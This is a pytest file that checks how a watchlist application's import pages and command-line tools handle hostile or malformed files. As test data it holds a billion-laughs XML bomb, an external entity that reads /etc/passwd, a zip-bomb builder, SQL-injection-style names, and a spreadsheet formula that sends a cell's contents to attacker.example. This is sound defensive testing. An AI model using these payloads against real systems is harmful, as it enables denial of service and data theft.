"""Bad files at every door a file comes in by: the persons import page (session + CSRF), `watchlist persons
import`, the list-screening upload page, `watchlist lists import` (CSV / JSON / JSONL / XML / XLSX), and
the readers under them. Each bad file is refused with a named error (file, row, field), or its bad rows kept
in quarantine with their reasons; nothing is half-written. hypothesis then throws arbitrary bytes at the
readers.

The API's doors (JSON bodies, searches) are in tests/watchlist/api/test_bad_input_api.py.
"""

from __future__ import annotations

import codecs
import csv
import html
import http.server
import io
import json
import re
import socketserver
import threading
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from alembic import command
from click.testing import CliRunner, Result
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from sqlalchemy import select, update
from sqlalchemy.orm import Session, sessionmaker
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.test import TestResponse, encode_multipart

from jobs.sources.config import load_sources
from jobs.sources.parse import UnusableDelivery, parse_delivery
from tests.login_sessions import log_in
from tests.row_counts import audit_actions, last_audit_id, row_counts
from watchlist import migrations
from watchlist.access import SESSION_CSRF_TOKEN
from watchlist.cli import CliState, main
from watchlist.db import make_engine
from watchlist.exc import ValidationFailed
from watchlist.imports import MAX_XLSX_COLUMNS, read_person_file, read_rows
from watchlist.models import ConvictedPerson, Delivery, DeliveryStatus, PersonName, QuarantinedRow, Role, User
from watchlist.persons import add_person, require_person
from watchlist.settings import Settings

CSRF = "bad-input-csrf-token"
HEADER = "external_id,full_name,birth_date"
PERSONS_CSV = f"{HEADER}\nBI-1,Гнилицький Олег Петрович,1975-03-12\nBI-2,Кабашний Олександр,1968\n"
NAMES = {"Гнилицький Олег Петрович", "Кабашний Олександр"}
LIST_CSV = "record_id,full_name,birth_date\nR-1,Гнилицкий Олег,12.03.1975\nR-2,Іваненко Петро,1980\n"
MILLION = "Олег" * 250_000
DEEP_JSON = "[" * 100_000 + "]" * 100_000
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<persons><person id="1"><name>&lol9;</name></person></persons>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE persons [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<persons><person id="1"><name>&secret;</name></person></persons>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE persons SYSTEM "http://127.0.0.1:{port}/evil.dtd">
<persons><person id="1"><name>Hnylytskyi Oleh</name></person></persons>
"""
SOURCES = """
[sources.pow_csv]
kind = "pow"
format = "csv"
folder = "{drop}"

[sources.pow_json]
kind = "pow"
format = "json"
folder = "{drop}"

[sources.pow_jsonl]
kind = "pow"
format = "jsonl"
folder = "{drop}"

[sources.pow_xlsx]
kind = "pow"
format = "xlsx"
folder = "{drop}"

[sources.pow_xml]
kind = "extradition"
format = "xml"
folder = "{drop}"
record_path = "person"

[sources.pow_xml.mapping]
record_id = "@id"
full_name = "name"
"""


# --- the doors ----------------------------------------------------------------------------------------------


@pytest.fixture
def editor_page(client: FlaskClient, make_user: Callable[..., User]) -> FlaskClient:
    """The client logged in as an editor, with a known CSRF token in its session."""
    log_in(client, make_user(Role.EDITOR))
    with client.session_transaction() as cookie:
        cookie[SESSION_CSRF_TOKEN] = CSRF
    return client


@pytest.fixture
def screener_page(client: FlaskClient, make_user: Callable[..., User]) -> FlaskClient:
    log_in(client, make_user(Role.SCREENER))
    with client.session_transaction() as cookie:
        cookie[SESSION_CSRF_TOKEN] = CSRF
    return client


def post_file(client: FlaskClient, path: str, name: str, content: bytes) -> TestResponse:
    """The form of a page's upload posted as a browser posts it."""
    # encoded here in memory: the test client spools a large body to a temporary file it never closes
    boundary, body = encode_multipart(
        MultiDict({"csrf_token": CSRF, "file": FileStorage(io.BytesIO(content), name)})
    )
    return client.post(path, data=body, content_type=f"multipart/form-data; boundary={boundary}")


def import_page(client: FlaskClient, name: str, content: bytes) -> TestResponse:
    return post_file(client, "/persons/import", name, content)


def list_upload(client: FlaskClient, name: str, content: bytes) -> TestResponse:
    return post_file(client, "/screen/lists", name, content)


def page_errors(response: TestResponse) -> str:
    """The page's text as a reader sees it, tags dropped."""
    body = re.sub(r"<[^>]+>", " ", response.get_data(as_text=True))
    return " ".join(html.unescape(body).split())


Cli = Callable[..., Result]


@pytest.fixture
def drop(tmp_path: Path) -> Path:
    folder = tmp_path / "drop"
    folder.mkdir()
    return folder


@pytest.fixture
def cli(settings: Settings, session_factory: sessionmaker[Session], tmp_path: Path, drop: Path) -> Cli:
    """`watchlist …` as an operator types it, on the test's database (its commits stay in the test's
    transaction)."""
    sources = tmp_path / "sources.toml"
    sources.write_text(SOURCES.format(drop=drop), encoding="utf-8")

    def run(*args: str) -> Result:
        state = CliState()
        # the state builds these on first use from the environment; the test hands over its own
        state.__dict__["settings"] = settings
        state.__dict__["sessionmaker"] = session_factory
        if args[:2] == ("lists", "import"):
            args = (*args, "--sources-file", str(sources))
        return CliRunner().invoke(main, list(args), obj=state)

    return run


def write(folder: Path, name: str, content: bytes) -> Path:
    path = folder / name
    path.write_bytes(content)
    return path


def stored_names(session: Session) -> set[str]:
    session.expire_all()
    return set(session.scalars(select(PersonName.name)))


def last_delivery(session: Session) -> Delivery:
    session.expire_all()
    delivery = session.scalars(select(Delivery).order_by(Delivery.id.desc()).limit(1)).first()
    assert delivery is not None
    return delivery


def quarantined_errors(session: Session, delivery: Delivery) -> list[tuple[int | None, list[str]]]:
    rows = session.scalars(
        select(QuarantinedRow).where(QuarantinedRow.delivery_id == delivery.id).order_by(QuarantinedRow.id)
    )
    return [(row.row_number, [error["field"] for error in row.errors]) for row in rows]


def xlsx(rows: list[list[Any]]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@pytest.fixture(scope="session")
def zip_bomb() -> bytes:
    """A real workbook of 1 MB whose sheet inflates to 512 MB: the persons' rows come after half a
    gigabyte of white space, which an XML reader goes through before it finds them."""
    template = zipfile.ZipFile(io.BytesIO(xlsx([["external_id", "full_name"], ["BOMB-1", "Бомба Петро"]])))
    padding = b" " * (1024 * 1024)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as bomb:
        for part in template.infolist():
            content = template.read(part.filename)
            if part.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(part.filename, content)
                continue
            head, tail = content.split(b"<sheetData>", 1)
            with bomb.open(part.filename, "w", force_zip64=True) as sheet:
                sheet.write(head)
                for _ in range(512):
                    sheet.write(padding)
                sheet.write(b"<sheetData>" + tail)
    return out.getvalue()


# --- encodings ----------------------------------------------------------------------------------------------

ENCODINGS = {
    "utf-8": lambda text: text.encode("utf-8"),
    "utf-8-bom": lambda text: codecs.BOM_UTF8 + text.encode("utf-8"),
    "utf-16-le-bom": lambda text: codecs.BOM_UTF16_LE + text.encode("utf-16-le"),
    "utf-16-be-bom": lambda text: codecs.BOM_UTF16_BE + text.encode("utf-16-be"),
    "cp1251": lambda text: text.encode("cp1251"),
    "cp1251-semicolons": lambda text: text.replace(",", ";").encode("cp1251"),
}
# bytes no supported encoding reads: 0x98 is the one byte cp1251 leaves undefined; a UTF-16 file cut in a
# character; a UTF-8 BOM in front of bytes that are not UTF-8
INVALID = {
    "cp1251-undefined-byte": f"{HEADER}\nBI-1,Гнилицький Олег\n".encode("cp1251") + b"\x98\n",
    "utf-16-cut": codecs.BOM_UTF16_LE + f"{HEADER}\nBI-1,Олег\n".encode("utf-16-le") + b"\x00",
    "utf-8-bom-then-latin-1": codecs.BOM_UTF8 + f"{HEADER}\nBI-1,".encode() + "Müller Oleg".encode("latin-1"),
}


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_a_persons_file_in_each_encoding_imports_the_same_names_on_the_page_and_the_cli(
    editor_page: FlaskClient, session: Session, cli: Cli, tmp_path: Path, encoding: str
) -> None:
    content = ENCODINGS[encoding](PERSONS_CSV)
    audit_before = last_audit_id(session)
    response = import_page(editor_page, f"persons-{encoding}.csv", content)
    assert response.status_code == 200, page_errors(response)
    assert stored_names(session) == NAMES
    assert audit_actions(session, audit_before) == ["person.imported"]
    # the same file again through the command line: the same persons, nothing new
    result = cli("persons", "import", str(write(tmp_path, f"again-{encoding}.csv", content)))
    assert result.exit_code == 0, result.output
    assert row_counts(session)["persons"] == 2


@pytest.mark.parametrize("content", INVALID.values(), ids=INVALID)
def test_a_persons_file_of_bytes_no_encoding_reads_is_refused_whole(
    editor_page: FlaskClient, session: Session, cli: Cli, tmp_path: Path, content: bytes
) -> None:
    before, audit_before = row_counts(session), last_audit_id(session)
    response = import_page(editor_page, "broken.csv", content)
    assert response.status_code == 422
    assert "broken.csv" in page_errors(response)
    result = cli("persons", "import", str(write(tmp_path, "broken.csv", content)))
    assert result.exit_code == 1
    assert "broken.csv" in result.output and ("UTF-8" in result.output or "byte-order mark" in result.output)
    assert row_counts(session) == before
    assert audit_actions(session, audit_before) == []


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_an_incoming_list_in_each_encoding_is_stored_with_the_same_names(
    cli: Cli, session: Session, drop: Path, encoding: str
) -> None:
    path = write(drop, f"list-{encoding}.csv", ENCODINGS[encoding](LIST_CSV))
    result = cli("lists", "import", str(path), "--source", "pow_csv")
    assert result.exit_code == 0, result.output
    delivery = last_delivery(session)
    assert delivery.status is DeliveryStatus.ACCEPTED
    assert (delivery.rows_stored, delivery.rows_quarantined) == (2, 0)


@pytest.mark.parametrize("content", INVALID.values(), ids=INVALID)
def test_an_incoming_list_of_unreadable_bytes_is_quarantined_whole(
    cli: Cli, session: Session, drop: Path, content: bytes
) -> None:
    before = row_counts(session)
    audit_before = last_audit_id(session)
    result = cli("lists", "import", str(write(drop, "broken.csv", content)), "--source", "pow_csv")
    assert result.exit_code == 1
    delivery = last_delivery(session)
    assert delivery.status is DeliveryStatus.QUARANTINED
    assert delivery.reason is not None and "broken.csv" in delivery.reason and "text" in delivery.reason
    after = row_counts(session)
    assert after["records"] == before["records"]
    assert after["deliveries"] == before["deliveries"] + 1
    # the ingest is on the record even though it brought nothing
    assert "ingest" in audit_actions(session, audit_before)


@pytest.mark.parametrize("content", INVALID.values(), ids=INVALID)
def test_a_list_to_screen_of_unreadable_bytes_is_refused_on_the_page(
    screener_page: FlaskClient, session: Session, content: bytes
) -> None:
    before = row_counts(session)
    response = list_upload(screener_page, "broken.csv", content)
    assert response.status_code == 422
    assert "broken.csv" in page_errors(response) or "UTF-8" in page_errors(response)
    assert row_counts(session) == before


# --- formulas ---------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Гнилицький")'


def test_formula_cells_are_stored_literally_and_escaped_when_a_list_is_downloaded(
    editor_page: FlaskClient, app: Flask, session: Session, make_user: Callable[..., User]
) -> None:
    rows = [
        ["external_id", "full_name", "notes"],
        ["F-1", "Гнилицький Олег", FORMULA],
        ["F-2", "=Олег Бойко", "@SUM(1)"],
    ]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    assert import_page(editor_page, "formulas.csv", out.getvalue().encode()).status_code == 200
    session.expire_all()
    persons = {p.external_id: p for p in session.scalars(select(ConvictedPerson))}
    assert persons["F-1"].notes == FORMULA
    assert persons["F-2"].primary_name == "=Олег Бойко" and persons["F-2"].notes == "@SUM(1)"

    screener_page = app.test_client()
    log_in(screener_page, make_user(Role.SCREENER))
    with screener_page.session_transaction() as cookie:
        cookie[SESSION_CSRF_TOKEN] = CSRF
    listed = f"record_id,full_name\n{FORMULA.replace(',', ';')},=Олег Бойко\n"
    response = list_upload(screener_page, "formulas.csv", listed.encode())
    assert response.status_code == 303, page_errors(response)
    location = response.headers["Location"]
    for _ in range(20):
        progress = screener_page.post(
            location + "/next", headers={"Accept": "application/json", "X-CSRF-Token": CSRF}
        )
        if progress.get_json()["state"] != "screening":
            break
    downloaded = list(
        csv.reader(io.StringIO(screener_page.get(location + "/results.csv").data.decode("utf-8-sig")))
    )
    cells = [cell for row in downloaded[1:] for cell in row]
    assert "'" + FORMULA.replace(",", ";") in cells and "'=Олег Бойко" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


# --- XLSX: zip bombs, too many rows, too many columns -----------------------------------------------------


def test_an_xlsx_zip_bomb_is_refused_at_every_door_before_it_is_inflated(
    editor_page: FlaskClient,
    session: Session,
    cli: Cli,
    drop: Path,
    tmp_path: Path,
    zip_bomb: bytes,
    make_user: Callable[..., User],
    app: Flask,
) -> None:
    assert len(zip_bomb) < 3 * 1024 * 1024
    screener = app.test_client()
    log_in(screener, make_user(Role.SCREENER))
    with screener.session_transaction() as cookie:
        cookie[SESSION_CSRF_TOKEN] = CSRF
    before, audit_before = row_counts(session), last_audit_id(session)
    started = time.monotonic()
    response = import_page(editor_page, "bomb.xlsx", zip_bomb)
    assert response.status_code == 422
    assert "bomb.xlsx" in page_errors(response) and "zip bomb" in page_errors(response)
    result = cli("persons", "import", str(write(tmp_path, "bomb.xlsx", zip_bomb)))
    assert result.exit_code == 1 and "zip bomb" in result.output
    listed = list_upload(screener, "bomb.xlsx", zip_bomb)
    assert listed.status_code == 422 and "zip bomb" in page_errors(listed)
    # the three refusals took no longer than reading a few kilobytes would
    assert time.monotonic() - started < 10
    assert row_counts(session) == before
    assert audit_actions(session, audit_before) == []

    result = cli("lists", "import", str(write(drop, "bomb.xlsx", zip_bomb)), "--source", "pow_xlsx")
    assert result.exit_code == 1
    delivery = last_delivery(session)
    assert delivery.status is DeliveryStatus.QUARANTINED
    assert delivery.reason is not None and "zip bomb" in delivery.reason
    assert row_counts(session)["records"] == before["records"]


def test_an_xlsx_with_more_columns_than_allowed_is_refused_naming_the_row(
    editor_page: FlaskClient, session: Session, cli: Cli, drop: Path
) -> None:
    wide = xlsx([["external_id", "full_name"], ["W-1", "Олег Бойко", *(["x"] * MAX_XLSX_COLUMNS)]])
    before = row_counts(session)
    response = import_page(editor_page, "wide.xlsx", wide)
    assert response.status_code == 422
    assert f"more than {MAX_XLSX_COLUMNS} columns" in page_errors(response)
    result = cli("lists", "import", str(write(drop, "wide.xlsx", wide)), "--source", "pow_xlsx")
    assert result.exit_code == 1
    delivery = last_delivery(session)
    assert (
        delivery.reason is not None
        and f"wide.xlsx:2:file: has more than {MAX_XLSX_COLUMNS} columns" in delivery.reason
    )
    after = row_counts(session)
    assert (after["persons"], after["records"]) == (before["persons"], before["records"])


def test_an_xlsx_claiming_the_widest_sheet_is_read_by_its_real_cells(tmp_path: Path) -> None:
    # a dimension of A1:XFD3 would make the reader pad every row to 16,384 cells
    content = xlsx([["external_id", "full_name"], ["D-1", "Олег Бойко"]])
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as patched:
        for part in source.infolist():
            data = source.read(part.filename)
            if part.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:XFD1048576"', data)
            patched.writestr(part.filename, data)
    path = write(tmp_path, "claims.xlsx", out.getvalue())
    person_file = read_person_file(path, 10_000_000)
    assert [p.full_name for p in person_file.valid] == ["Олег Бойко"] and not person_file.errors


def test_an_xlsx_with_more_rows_than_allowed_is_refused(
    editor_page: FlaskClient, session: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("watchlist.imports.MAX_XLSX_ROWS", 3)
    rows = [["external_id", "full_name"]] + [[f"T-{n}", f"Олег Бойко {n}"] for n in range(5)]
    before = row_counts(session)
    response = import_page(editor_page, "tall.xlsx", xlsx(rows))
    assert response.status_code == 422
    assert "has more than 3 rows" in page_errors(response)
    assert row_counts(session) == before


# --- XML bombs and external entities ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "content", [BILLION_LAUGHS, EXTERNAL_ENTITY], ids=["billion-laughs", "external-entity"]
)
def test_xml_bombs_and_external_entities_are_quarantined_unread(
    cli: Cli, session: Session, drop: Path, content: bytes
) -> None:
    before, audit_before = row_counts(session), last_audit_id(session)
    started = time.monotonic()
    result = cli("lists", "import", str(write(drop, "list.xml", content)), "--source", "pow_xml")
    assert time.monotonic() - started < 10
    assert result.exit_code == 1, result.output
    delivery = last_delivery(session)
    assert delivery.status is DeliveryStatus.QUARANTINED
    assert delivery.reason is not None
    assert "list.xml" in delivery.reason
    assert "entit" in delivery.reason or "DTD" in delivery.reason or "external" in delivery.reason
    # nothing of /etc/passwd or of the laughs was stored
    assert row_counts(session)["records"] == before["records"]
    assert "root:" not in (delivery.sample or "") or "ENTITY" in (delivery.sample or "")
    assert "ingest" in audit_actions(session, audit_before)


def test_an_external_dtd_is_never_fetched(cli: Cli, session: Session, drop: Path) -> None:
    asked: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802  (the name http.server calls)
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b'<!ENTITY % x SYSTEM "file:///etc/passwd">')

        def log_message(self, format: str, *args: Any) -> None:
            pass

    with socketserver.TCPServer(("127.0.0.1", 0), Recorder) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            content = EXTERNAL_DTD.replace(b"{port}", str(server.server_address[1]).encode())
            result = cli("lists", "import", str(write(drop, "dtd.xml", content)), "--source", "pow_xml")
        finally:
            server.shutdown()
            thread.join()
    assert asked == []
    # the document itself is harmless: its record is stored as it reads
    assert result.exit_code == 0, result.output
    assert last_delivery(session).rows_stored == 1


# --- JSON nested too deeply, numbers too long -------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        DEEP_JSON,
        '[{"external_id": "J-1", "full_name": ' + "[" * 100_000 + "]" * 100_000 + "}]",
        '[{"external_id": ' + "1" * 5000 + ', "full_name": "Олег Бойко"}]',
    ],
    ids=["deep-array", "deep-field", "huge-integer"],
)
def test_a_persons_json_file_nested_too_deeply_is_a_named_error_not_a_crash(
    editor_page: FlaskClient, session: Session, cli: Cli, tmp_path: Path, content: str
) -> None:
    before = row_counts(session)
    response = import_page(editor_page, "deep.json", content.encode())
    assert response.status_code == 422
    assert "deep.json file" in page_errors(response) and "JSON" in page_errors(response)
    result = cli("persons", "import", str(write(tmp_path, "deep.json", content.encode())))
    assert result.exit_code == 1 and "deep.json:file: is not valid JSON" in result.output
    assert row_counts(session) == before


def test_a_jsonl_line_nested_too_deeply_is_named_by_its_line(
    cli: Cli, session: Session, tmp_path: Path
) -> None:
    lines = [
        '{"external_id": "J-1", "full_name": "Олег Бойко"}',
        DEEP_JSON,
        '{"external_id": ' + "9" * 5000 + "}",
    ]
    result = cli("persons", "import", str(write(tmp_path, "deep.jsonl", "\n".join(lines).encode())))
    assert result.exit_code == 1
    assert "deep.jsonl:2:line: is not valid JSON: nested too deeply" in result.output
    assert "deep.jsonl:3:line: is not valid JSON" in result.output
    assert row_counts(session)["persons"] == 0


def test_incoming_json_nested_too_deeply_is_quarantined_and_a_deep_jsonl_line_kept_apart(
    cli: Cli, session: Session, drop: Path
) -> None:
    result = cli("lists", "import", str(write(drop, "deep.json", DEEP_JSON.encode())), "--source", "pow_json")
    assert result.exit_code == 1
    delivery = last_delivery(session)
    assert delivery.status is DeliveryStatus.QUARANTINED
    assert delivery.reason is not None and "nested too deeply" in delivery.reason

    lines = [
        '{"record_id": "R-1", "full_name": "Олег Бойко"}',
        DEEP_JSON,
        '{"record_id": "R-3", "full_name": "Іван Франко"}',
    ]
    result = cli(
        "lists", "import", str(write(drop, "deep.jsonl", "\n".join(lines).encode())), "--source", "pow_jsonl"
    )
    assert result.exit_code == 0, result.output
    delivery = last_delivery(session)
    assert (delivery.status, delivery.rows_stored, delivery.rows_quarantined) == (
        DeliveryStatus.ACCEPTED,
        2,
        1,
    )
    assert quarantined_errors(session, delivery) == [(2, ["line"])]


def test_a_list_to_screen_in_json_nested_too_deeply_is_refused_on_the_page(
    screener_page: FlaskClient, session: Session
) -> None:
    before = row_counts(session)
    response = list_upload(screener_page, "deep.json", DEEP_JSON.encode())
    assert response.status_code == 422
    assert "deep.json" in page_errors(response) and "JSON" in page_errors(response)
    assert row_counts(session) == before


# --- a 1,000,000-character name, wrong types, impossible dates, SQL-looking names --------------------------


def test_a_million_character_name_in_a_persons_file_is_named_at_once(
    editor_page: FlaskClient, session: Session, cli: Cli, tmp_path: Path
) -> None:
    before = row_counts(session)
    rows = [{"external_id": "M-1", "full_name": "Олег Бойко"}, {"external_id": "M-2", "full_name": MILLION}]
    started = time.monotonic()
    response = import_page(editor_page, "million.json", json.dumps(rows, ensure_ascii=False).encode())
    assert response.status_code == 422
    assert "million.json 2 full_name" in page_errors(response)
    csv_text = f"external_id,full_name\nM-1,Олег Бойко\nM-2,{MILLION}\n"
    result = cli("persons", "import", str(write(tmp_path, "million.csv", csv_text.encode())))
    assert result.exit_code == 1 and "million.csv:3:" in result.output
    assert time.monotonic() - started < 10
    assert row_counts(session) == before


def test_a_million_character_name_in_an_incoming_list_is_quarantined_naming_the_field(
    cli: Cli, session: Session, drop: Path
) -> None:
    lines = [{"record_id": "R-1", "full_name": "Олег Бойко"}, {"record_id": "R-2", "full_name": MILLION}]
    content = "\n".join(json.dumps(line, ensure_ascii=False) for line in lines).encode()
    result = cli("lists", "import", str(write(drop, "million.jsonl", content)), "--source", "pow_jsonl")
    assert result.exit_code == 0, result.output
    delivery = last_delivery(session)
    assert (delivery.rows_stored, delivery.rows_quarantined) == (1, 1)
    assert quarantined_errors(session, delivery) == [(2, ["full_name"])]


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("external_id", ["x"]),
        ("full_name", {"x": 1}),
        ("full_name", True),
        ("aliases", 42),
        ("aliases", [{"a": 1}]),
        ("birth_date", ["1975"]),
        ("verdict_date", 2023.5),
        ("status", ["active"]),
        ("notes", {"x": 1}),
    ],
)
def test_a_persons_json_file_with_a_wrong_type_names_the_row_and_field(
    editor_page: FlaskClient, session: Session, field: str, value: Any
) -> None:
    rows = [
        {"external_id": "T-1", "full_name": "Олег Бойко"},
        {"external_id": "T-2", "full_name": "Іван Франко", field: value},
    ]
    before = row_counts(session)
    response = import_page(editor_page, "types.json", json.dumps(rows).encode())
    assert response.status_code == 422
    assert f"types.json 2 {field}" in page_errors(response)
    assert row_counts(session) == before


def test_an_incoming_row_with_a_wrong_type_is_quarantined_naming_the_field(
    cli: Cli, session: Session, drop: Path
) -> None:
    lines = [
        '{"record_id": "R-1", "full_name": "Олег Бойко"}',
        '{"record_id": "R-2", "full_name": {"x": 1}}',
        "[1, 2]",
        '"Олег"',
    ]
    result = cli(
        "lists", "import", str(write(drop, "types.jsonl", "\n".join(lines).encode())), "--source", "pow_jsonl"
    )
    assert result.exit_code == 0, result.output
    delivery = last_delivery(session)
    assert quarantined_errors(session, delivery) == [(2, ["full_name"]), (3, ["row"]), (4, ["row"])]


@pytest.mark.parametrize(
    "value", ["31.02.1980", "1980-02-31", "0000", "0000-01-01", "3000-01-01", "1980-13", "1980-00-10"]
)
def test_an_impossible_birth_date_in_a_persons_file_is_named(
    editor_page: FlaskClient, session: Session, value: str
) -> None:
    before = row_counts(session)
    response = import_page(
        editor_page, "dates.csv", f"{HEADER}\nD-1,Олег Бойко,1975\nD-2,Іван Франко,{value}\n".encode()
    )
    assert response.status_code == 422
    assert "dates.csv 3 birth_date" in page_errors(response)
    assert row_counts(session) == before


def test_impossible_birth_dates_in_an_incoming_list_are_kept_raw_and_do_not_stop_it(
    cli: Cli, session: Session, drop: Path
) -> None:
    content = (
        "record_id,full_name,birth_date\n"
        "R-1,Олег Бойко,31.02.1980\nR-2,Іван Франко,0000\nR-3,Петро Лях,3000-01-01\n"
    )
    result = cli("lists", "import", str(write(drop, "dates.csv", content.encode())), "--source", "pow_csv")
    assert result.exit_code == 0, result.output
    delivery = last_delivery(session)
    assert (delivery.status, delivery.rows_stored) == (DeliveryStatus.ACCEPTED, 3)


def test_sql_looking_and_invisible_character_names_in_a_file_are_stored_literally(
    editor_page: FlaskClient, session: Session
) -> None:
    names = ["O'Brien Patrick", "'; DROP TABLE persons; --", "Гнилиц\u200bький\u202e Олег", "Олег' OR '1'='1"]
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["external_id", "full_name"])
    writer.writerows([f"S-{n}", name] for n, name in enumerate(names))
    response = import_page(editor_page, "sql.csv", out.getvalue().encode())
    assert response.status_code == 200, page_errors(response)
    assert stored_names(session) == set(names)
    found = editor_page.get("/persons", query_string={"q": "Гнилицький"})
    assert "S-2" in page_errors(found)


# --- hypothesis: the readers raise only their declared errors on any bytes ---------------------------------

ANY_BYTES = st.one_of(
    st.binary(max_size=400),
    st.text(max_size=200).map(lambda text: text.encode("utf-8")),
    st.lists(
        st.sampled_from(
            [
                "external_id",
                "full_name",
                ",",
                ";",
                "\t",
                "\n",
                '"',
                "Олег",
                "[",
                "]",
                "{",
                "}",
                '"a":',
                "1",
                "\x00",
                "\ufeff",
                "\r",
            ]
        ),
        max_size=40,
    ).map(lambda parts: "".join(parts).encode()),
)
BOUNDED = settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


@pytest.fixture(scope="module")
def fuzz_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("fuzz")


@pytest.mark.parametrize("suffix", [".csv", ".json", ".jsonl", ".xlsx"])
@BOUNDED
@given(content=ANY_BYTES)
def test_the_file_readers_raise_only_validation_failed_on_any_bytes(
    fuzz_folder: Path, suffix: str, content: bytes
) -> None:
    path = write(fuzz_folder, "fuzz" + suffix, content)
    try:
        read_person_file(path, 1_000_000)
    except ValidationFailed as error:
        assert error.details and all(detail.file == path.name for detail in error.details)
    try:
        read_rows(path, 1_000_000)
    except ValidationFailed as error:
        assert error.details


@pytest.fixture(scope="module")
def fuzz_sources(tmp_path_factory: pytest.TempPathFactory) -> Any:
    folder = tmp_path_factory.mktemp("fuzz-sources")
    path = folder / "sources.toml"
    path.write_text(SOURCES.format(drop=folder), encoding="utf-8")
    return load_sources(path)


@pytest.mark.parametrize("name", ["pow_csv", "pow_json", "pow_jsonl", "pow_xlsx", "pow_xml"])
@BOUNDED
@given(content=st.one_of(ANY_BYTES, st.binary(max_size=100).map(lambda b: b"<persons><person id='1'>" + b)))
def test_the_incoming_parsers_say_why_a_delivery_cannot_be_used_and_raise_nothing(
    fuzz_folder: Path, fuzz_sources: Any, name: str, content: bytes
) -> None:
    source = fuzz_sources.get(name)
    path = write(fuzz_folder, f"incoming.{source.format}", content)
    parsed = parse_delivery(source, path)
    if parsed.problem is None:
        rows = list(parsed.rows())
        assert len(rows) == parsed.total
    else:
        assert parsed.total == 0
    # `rows()` of an unusable delivery yields nothing; it never raises what the first reading reported
    try:
        list(parsed.rows())
    except UnusableDelivery:
        pytest.fail("a delivery judged usable could not be read again")


def test_names_stored_before_the_search_form_changed_are_refolded_by_the_migration(tmp_path: Path) -> None:
    engine = make_engine(f"sqlite:///{tmp_path / 'refold.db'}")
    migrations.upgrade(engine)
    with Session(engine) as db:
        add_person(
            db, require_person({"external_id": "RF-1", "full_name": "Гнилиц\u200bький Олег"}), actor="t"
        )
        # what the search form was before revision 0015: NFKC and case folding, the zero-width space kept
        db.execute(update(PersonName).values(folded="гнилиц\u200bький олег"))
        db.commit()
    with engine.begin() as connection:
        command.downgrade(migrations.alembic_config(connection=connection), "0013")
    migrations.upgrade(engine)
    with Session(engine) as db:
        assert list(db.scalars(select(PersonName.folded))) == ["гнилицький олег"]
    engine.dispose()
